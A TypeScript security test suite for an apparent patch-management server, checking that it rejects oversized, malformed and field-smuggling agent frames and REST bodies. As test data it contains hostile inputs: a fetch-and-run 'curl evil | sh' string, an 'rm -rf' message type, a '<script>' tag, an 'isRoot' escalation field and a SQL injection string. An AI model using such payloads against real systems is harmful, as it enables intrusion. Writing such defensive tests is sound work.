import type { Inventory, ServerMessage } from '@patchwave/shared';
import { agentFrame, LIMITS, PROTOCOL_VERSION } from '@patchwave/shared';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { inventoryHash } from '../../server/src/domain/inventory/inventory-hash.js';
import { enrollDevice } from '../../server/src/testing/enroll.js';
import { sampleInventory, samplePackages } from '../../server/src/testing/facts.js';
import { TestAgentSocket } from '../../server/src/testing/ws-client.js';
import { listeningServer, type ListeningServer } from './support/security-server.js';

/**
 * Threats: a hostile or broken agent (or anyone holding a credential) flooding the server with
 * huge, malformed or over-long frames, or smuggling extra fields into what the server stores; a
 * client posting huge bodies. Real sockets against the real app.
 */

let s: ListeningServer;

beforeEach(async () => {
  s = await listeningServer();
});
afterEach(async () => {
  await s.close();
});

async function greeted(): Promise<{ socket: TestAgentSocket; deviceId: string }> {
  const { deviceId, credential } = await enrollDevice(s.t.app);
  const socket = TestAgentSocket.connect(s.wsUrl, credential);
  await socket.opened;
  socket.send(agentFrame('agent.hello', { protocolVersion: PROTOCOL_VERSION, agentVersion: '0.1.0', capabilities: [] }));
  expect((await socket.next()).type).toBe('server.welcome');
  return { socket, deviceId };
}

const errorOf = (frame: ServerMessage) => {
  expect(frame.type, JSON.stringify(frame)).toBe('error');
  return (frame as Extract<ServerMessage, { type: 'error' }>).payload;
};

describe('agent frames', () => {
  it('closes a connection that sends a frame over the 4 MiB limit with 1009, before parsing it', async () => {
    const { socket, deviceId } = await greeted();
    socket.send(`{"v":1,"id":"x","type":"heartbeat","ts":"","payload":{"pad":"${'a'.repeat(LIMITS.maxFrameBytes)}"}}`);
    expect((await socket.closed).code).toBe(1009);
    expect(s.t.app.agents.isOnline(deviceId)).toBe(false);
  });

  it('answers every malformed frame with a typed error naming what is wrong, counts it, and closes at the tenth', async () => {
    const { socket } = await greeted();
    const bad: [unknown, string, RegExp][] = [
      ['{not json', 'E_BAD_FRAME', /not JSON/],
      [{ v: 1, type: 'heartbeat', ts: '', payload: {} }, 'E_BAD_FRAME', /bad envelope: id/],
      [{ v: 1, id: 'a b', type: 'heartbeat', ts: '', payload: {} }, 'E_BAD_FRAME', /id: frame id may contain only/],
      [{ v: 1, id: 'f1', type: 'rm -rf', ts: '', payload: {} }, 'E_UNKNOWN_MESSAGE', /unknown message type/],
      [{ v: 7, id: 'f2', type: 'heartbeat', ts: '', payload: {} }, 'E_PROTOCOL_VERSION', /not supported/],
      [{ v: 1, id: 'f3', type: 'job.result', ts: '', payload: { jobId: '--help' } }, 'E_BAD_FRAME', /invalid job.result/],
      [{ v: 1, id: 'f4', type: 'heartbeat', ts: 'x'.repeat(65), payload: {} }, 'E_BAD_FRAME', /ts/],
      [{ v: 1, id: 'f5', type: 'security.event', ts: '', payload: { kind: 'job.rejected', code: 'E_NOPE', message: '' } }, 'E_BAD_FRAME', /payload.code/],
      [{ v: 1, id: 'f6', type: 'ack', ts: '', payload: { of: 'x'.repeat(LIMITS.id + 1) } }, 'E_BAD_FRAME', /payload.of/],
    ];
    for (const [frame, code, message] of bad) {
      socket.send(frame);
      const e = errorOf(await socket.next());
      expect(e.code, JSON.stringify(frame).slice(0, 80)).toBe(code);
      expect(e.message).toMatch(message);
    }
    const metric = await s.t.app.metrics.registry.getSingleMetricAsString('patchwave_agent_bad_frames_total');
    expect(metric).toContain('patchwave_agent_bad_frames_total{code="E_BAD_FRAME"} 7');
    expect(metric).toContain('patchwave_agent_bad_frames_total{code="E_UNKNOWN_MESSAGE"} 1');
    socket.ws.send(Buffer.from([0xde, 0xad]), { binary: true });
    errorOf(await socket.next());
    expect((await socket.closed).code).toBe(1008);
  });

  it('refuses over-long strings in agent data (hostname, package name, update title) with the path of the field', async () => {
    const { socket, deviceId } = await greeted();
    // Valid inventories, then one field made too long (the schema would refuse to build them).
    const variant = (change: (inv: Inventory) => void): Inventory => {
      const inv = JSON.parse(JSON.stringify(sampleInventory(samplePackages(1)))) as Inventory;
      change(inv);
      return inv;
    };
    const cases: [Inventory, RegExp][] = [
      [variant((inv) => void (inv.facts.hostname = 'h'.repeat(LIMITS.hostname + 1))), /inventory\.facts\.hostname/],
      [variant((inv) => void ((inv.packages[0] as { name: string }).name = 'p'.repeat(LIMITS.packageName + 1))), /inventory\.packages\.0\.name/],
      [variant((inv) => void ((inv.updates[0] as { title?: string }).title = 't'.repeat(LIMITS.title + 1))), /inventory\.updates\.0\.title/],
    ];
    for (const [inventory, path] of cases) {
      socket.send(agentFrame('inventory.report', { kind: 'full', hash: 'a'.repeat(64), inventory }));
      const e = errorOf(await socket.next());
      expect(e.code).toBe('E_BAD_FRAME');
      expect(e.message).toMatch(path);
    }
    expect((await s.t.app.services.devices.get(deviceId)).inventoryHash).toBeNull();
  });

  it('drops unknown fields of agent data instead of storing them', async () => {
    const { socket, deviceId } = await greeted();
    const inventory = sampleInventory(samplePackages(2));
    const hash = inventoryHash(inventory);
    const smuggled = JSON.parse(JSON.stringify(inventory)) as Record<string, unknown> & { facts: Record<string, unknown>; packages: Record<string, unknown>[] };
    smuggled.facts.adminPassword = 'hunter2';
    smuggled.packages[0]!.postinst = 'curl evil | sh';
    smuggled.extra = { nested: '<script>' };
    socket.send({ v: 1, id: 'smuggle', type: 'inventory.report', ts: new Date().toISOString(), payload: { kind: 'full', hash, inventory: smuggled, alsoThis: 1 } });
    expect((await socket.next()).type).toBe('ack');
    const detail = await s.t.app.inject({ method: 'GET', url: `/api/v1/devices/${deviceId}`, headers: s.t.auth() });
    const packages = await s.t.app.inject({ method: 'GET', url: `/api/v1/devices/${deviceId}/packages`, headers: s.t.auth() });
    for (const body of [detail.body, packages.body]) {
      expect(body).not.toContain('hunter2');
      expect(body).not.toContain('curl evil');
      expect(body).not.toContain('adminPassword');
    }
    const db = s.t.temp.store.db;
    const row = await db.selectFrom('devices').select('facts_json').where('id', '=', deviceId).executeTakeFirstOrThrow();
    expect(row.facts_json).not.toContain('hunter2');
  });
});

describe('REST limits', () => {
  it('refuses a body over the limit with 413 before any handler runs', async () => {
    const res = await fetch(`${s.url}/api/v1/enrollment-tokens`, {
      method: 'POST',
      headers: { ...s.t.auth(), 'content-type': 'application/json' },
      body: JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024) }),
    });
    expect(res.status).toBe(413);
    expect(await res.json()).toMatchObject({ error: { code: 'E_PAYLOAD_TOO_LARGE' } });
    expect(await s.t.app.services.enrollment.listTokens()).toEqual([]);
  });

  it('refuses unknown fields and over-long strings in request bodies with the path of the field', async () => {
    const unknown = await s.t.app.inject({ method: 'POST', url: '/api/v1/users', headers: s.t.auth(), payload: { username: 'x', role: 'admin', isRoot: true } });
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json().error.message).toMatch(/isRoot/);
    const long = await s.t.app.inject({ method: 'POST', url: '/api/v1/api-tokens', headers: s.t.auth(), payload: { name: 'n'.repeat(129), role: 'auditor' } });
    expect(long.statusCode).toBe(400);
    expect(long.json().error.message).toMatch(/^body\.name/);
    const query = await s.t.app.inject({ method: 'GET', url: `/api/v1/devices?name=${'q'.repeat(300)}`, headers: s.t.auth() });
    expect(query.statusCode).toBe(400);
    expect(query.json().error.message).toMatch(/^querystring\.name/);
    const param = await s.t.app.inject({ method: 'GET', url: `/api/v1/devices/${encodeURIComponent("1' OR '1'='1")}`, headers: s.t.auth() });
    expect(param.statusCode).toBe(400);
    expect(param.json().error.message).toMatch(/^params\.id/);
  });
});
